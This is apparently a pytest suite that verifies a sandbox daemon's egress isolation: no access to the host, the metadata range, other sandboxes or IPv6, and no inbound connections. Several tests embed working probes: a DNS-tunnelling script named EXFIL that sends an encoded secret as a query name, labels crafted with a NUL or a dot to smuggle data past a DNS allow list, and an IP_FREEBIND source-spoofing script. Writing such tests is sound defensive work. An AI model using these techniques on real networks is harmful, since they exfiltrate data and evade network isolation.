"""Claim: an egress sandbox reaches only what its policy allows, and never, whatever its policy says in
general terms, the host itself, the host's link-local neighbours (the cloud metadata service lives at
169.254.169.254), other sandboxes, or anything by IPv6; it cannot forge its source address, cannot use
sbxd's resolver as a way out when names are denied, and nothing outside can open a connection into it."""
import random
import socket
import struct

import pytest

from nettarget import Resolver, Target, egress_args, probe, table_name
from sbxtest import Daemon, sh
from test_network import Listener, host_addresses

PORT = Target.PORT
# A link-local address standing in for the metadata service (the real one may be routed on a cloud host;
# the rule that protects it is the one for all of 169.254.0.0/16).
LINK_LOCAL = "169.254.77.77"


@pytest.fixture(scope="module")
def target():
    with Target(extra_addrs=[LINK_LOCAL]) as t:
        yield t


@pytest.fixture(scope="module")
def resolver(target):
    with Resolver({"ok.test": target.addrs[0]}) as r:
        yield r


@pytest.fixture(scope="module")
def daemon(resolver):
    with Daemon(extra_args=egress_args(resolver)) as d:
        yield d
        assert d.stop() == 0, f"sbxd did not exit cleanly: {d.read_log()}"


def egress(daemon, new_sandbox, **policy):
    return new_sandbox(network={"mode": "egress", "egress": policy})


def info(daemon, sid):
    return daemon.request("GET", f"/v1/sandboxes/{sid}").json()


def gateway_of(address):
    a = address.split(".")
    return ".".join(a[:3] + [str(int(a[3]) - 1)])


def test_link_local_blocked_even_when_everything_is_allowed(daemon, new_sandbox, target):
    t = f"{LINK_LOCAL}:{PORT}"
    for policy in ({"default": "allow"}, {"default": "allow", "allow": ["0.0.0.0/0", "169.0.0.0/8"]}):
        sid = egress(daemon, new_sandbox, **policy)
        assert probe(daemon, sid, t)[t].startswith("connect:"), policy
    # The target is really there: an allow entry naming it specifically opens it.
    sid = egress(daemon, new_sandbox, default="deny", allow=[LINK_LOCAL])
    assert probe(daemon, sid, t)[t] == f"hello from {LINK_LOCAL}"


def test_host_unreachable_on_every_address(daemon, new_sandbox):
    listeners = [Listener("0.0.0.0")]
    try:
        port = listeners[0].port
        sid = egress(daemon, new_sandbox, default="allow", allow=["0.0.0.0/0"])
        gw = gateway_of(info(daemon, sid)["network"]["address"])
        targets = [f"{a}:{port}" for a in [gw, "127.0.0.1", *[h for h in host_addresses() if ":" not in h]]]
        res = probe(daemon, sid, *targets)
        assert all(v.startswith("connect:") for v in res.values()), res
        assert listeners[0].accepted == 0
    finally:
        for li in listeners:
            li.close()


def test_other_sandboxes_unreachable_even_when_named(daemon, new_sandbox):
    b = egress(daemon, new_sandbox, default="allow")
    b_addr = info(daemon, b)["network"]["address"]
    r = daemon.request("POST", f"/v1/sandboxes/{b}/commands", {"command": [
        "python3", "-c",
        "import socket; s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); "
        "s.bind(('0.0.0.0', 9000)); s.listen(8)\n"
        "while True:\n c, _ = s.accept(); c.sendall(b'hello from b\\n'); c.close()"]})
    assert r.status == 201, r
    # The control: it listens (once its command is up).
    out = sh(daemon, b, "for i in $(seq 50); do python3 -c \"import socket; print(socket.create_connection("
                        "('127.0.0.1', 9000), 3).recv(20).decode())\" 2>/dev/null && break; sleep 0.1; done")
    assert out["stdout"].strip() == "hello from b", out
    a = egress(daemon, new_sandbox, default="allow", allow=[b_addr, "0.0.0.0/0"])
    t = f"{b_addr}:9000"
    assert probe(daemon, a, t)[t].startswith("connect:")


def test_nothing_outside_can_connect_in(daemon, new_sandbox, target):
    sid = egress(daemon, new_sandbox, default="allow")
    addr = info(daemon, sid)["network"]["address"]
    r = daemon.request("POST", f"/v1/sandboxes/{sid}/commands", {"command": [
        "python3", "-c",
        "import socket; s = socket.socket(); s.bind(('0.0.0.0', 9001)); s.listen(8)\n"
        "while True: s.accept()[0].close()"]})
    assert r.status == 201, r
    # The control: it listens (seen from inside, once its command is up).
    out = sh(daemon, sid, "for i in $(seq 50); do python3 -c \"import socket; socket.create_connection("
                          "('%s', 9001), 3); print('up')\" 2>/dev/null && break; sleep 0.1; done" % addr)
    assert out["stdout"].strip() == "up", out
    # From the host (which routes the sandbox's subnet) and from the target's namespace.
    with pytest.raises(OSError):
        socket.create_connection((addr, 9001), timeout=2)
    import subprocess
    out = subprocess.run(["ip", "netns", "exec", target.ns, "python3", "-c",
                          f"import socket\ntry:\n socket.create_connection(('{addr}', 9001), 2); print('open')\n"
                          "except OSError: print('closed')"], capture_output=True, text=True)
    assert out.stdout.strip() == "closed", out


SPOOF = r"""
import socket, sys
src, dst = sys.argv[1], sys.argv[2]
s = socket.socket()
s.setsockopt(socket.SOL_IP, 15, 1)  # IP_FREEBIND: any source address, no capability needed
s.settimeout(3)
try:
    s.bind((src, 0))
    s.connect((dst, 8080))
    print(s.recv(100).decode().strip())
except OSError as e:
    print("blocked:", type(e).__name__)
"""


def test_forged_source_address_dropped(daemon, new_sandbox, target):
    sid = egress(daemon, new_sandbox, default="allow")
    addr = info(daemon, sid)["network"]["address"]
    prefix = addr.rsplit(".", 1)[0]
    forged = f"{prefix}.{(int(addr.rsplit('.', 1)[1]) + 4) % 252 + 2}"  # another sandbox's address
    for src in (forged, target.addrs[1], "8.8.8.8"):
        out = sh(daemon, sid, ["python3", "-c", SPOOF, src, target.addrs[0]])
        assert out["stdout"].startswith("blocked:"), (src, out)
    # The control: its own address works.
    out = sh(daemon, sid, ["python3", "-c", SPOOF, addr, target.addrs[0]])
    assert out["stdout"].strip() == f"hello from {target.addrs[0]}", out


def test_no_ipv6(daemon, new_sandbox):
    sid = egress(daemon, new_sandbox, default="allow")
    out = sh(daemon, sid, ["python3", "-c",
                           "import socket\ns = socket.socket(socket.AF_INET6)\ns.settimeout(2)\n"
                           "try:\n s.connect(('2001:db8::1', 80)); print('open')\n"
                           "except OSError as e: print('blocked', e.errno)"])
    assert out["stdout"].startswith("blocked"), out
    out = sh(daemon, sid, "cat /proc/net/if_inet6 2>/dev/null | grep -v ' lo$' | grep -c . || true")
    assert out["stdout"].strip() in ("", "0"), out


def dns_query(name):
    q = struct.pack("!HHHHHH", random.getrandbits(16), 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\0" + struct.pack("!HH", 1, 1)


EXFIL = r"""
import socket, sys, random, struct
for server in sys.argv[2:]:
    q = struct.pack("!HHHHHH", random.getrandbits(16), 0x0100, 1, 0, 0, 0)
    for label in sys.argv[1].split("."):
        q += bytes([len(label)]) + label.encode()
    q += b"\0" + struct.pack("!HH", 1, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    try:
        s.sendto(q, (server, 53))
        a = s.recv(512)
        print(server, "rcode", a[3] & 15, "answers", a[7])
    except OSError as e:
        print(server, "error", type(e).__name__)
"""


def test_dns_is_no_way_out_when_names_are_denied(daemon, new_sandbox, resolver, target):
    sid = egress(daemon, new_sandbox, default="deny", allow=[target.addrs[0]])
    asked = len(resolver.asked)
    secret = "c2VjcmV0.exfil.test"
    # At the sandbox's gateway, a public resolver, the target, a host address: all end at sbxd, which
    # refuses (the upstream, on the host's loopback, is not even addressable from inside).
    gw = gateway_of(info(daemon, sid)["network"]["address"])
    hosts = [h for h in host_addresses() if ":" not in h][:1]
    out = sh(daemon, sid, ["python3", "-c", EXFIL, secret, gw, "8.8.8.8", target.addrs[0], *hosts])
    lines = out["stdout"].strip().splitlines()
    assert len(lines) == 3 + len(hosts) and all("rcode 3 answers 0" in line for line in lines), out
    assert secret.lower() not in resolver.asked[asked:]


def test_resolver_port_closed_to_the_host(daemon, new_sandbox, resolver):
    import subprocess
    egress(daemon, new_sandbox, default="allow")
    ruleset = subprocess.run(["nft", "list", "table", "inet", table_name(daemon)], capture_output=True,
                             text=True).stdout
    port = int(ruleset.split("redirect to :", 1)[1].split()[0])
    asked = len(resolver.asked)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    s.sendto(dns_query("ok.test"), ("127.0.0.1", port))
    with pytest.raises(OSError):
        s.recv(512)
    assert "ok.test" not in resolver.asked[asked:]


RAW_QUERY = r"""
import socket, sys, random, struct
labels = [bytes.fromhex(h) for h in sys.argv[2:]]
q = struct.pack("!HHHHHH", random.getrandbits(16), 0x0100, 1, 0, 0, 0)
for l in labels:
    q += bytes([len(l)]) + l
q += b"\0" + struct.pack("!HH", 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(2)
try:
    s.sendto(q, (sys.argv[1], 53))
    a = s.recv(512)
    print("rcode", a[3] & 15, "answers", a[7])
except OSError as e:
    print("error", type(e).__name__)
"""


def test_dns_names_that_read_differently_in_text_are_not_forwarded(daemon, new_sandbox, resolver):
    """A label with a NUL or a dot in it reads as an allowed name in text ("ok.test") while the wire
    name the upstream would resolve is another one, carrying data to the attacker's name servers."""
    sid = egress(daemon, new_sandbox, default="deny", allow=["ok.test"])
    gw = gateway_of(info(daemon, sid)["network"]["address"])
    asked = len(resolver.asked)
    for labels in ([b"ok", b"test\x00c2VjcmV0", b"exfil", b"test"], [b"ok.test", b"exfil"],
                   [b"ok", b"te st"]):
        out = sh(daemon, sid, ["python3", "-c", RAW_QUERY, gw, *[lb.hex() for lb in labels]])
        assert "answers 0" in out["stdout"] or "error" in out["stdout"], (labels, out)
    assert resolver.asked[asked:] == [], resolver.asked[asked:]
    # The control: the real name is forwarded and answered.
    out = sh(daemon, sid, ["python3", "-c", RAW_QUERY, gw, b"ok".hex(), b"test".hex()])
    assert "rcode 0 answers 1" in out["stdout"], out
    assert resolver.asked[asked:] == ["ok.test"]
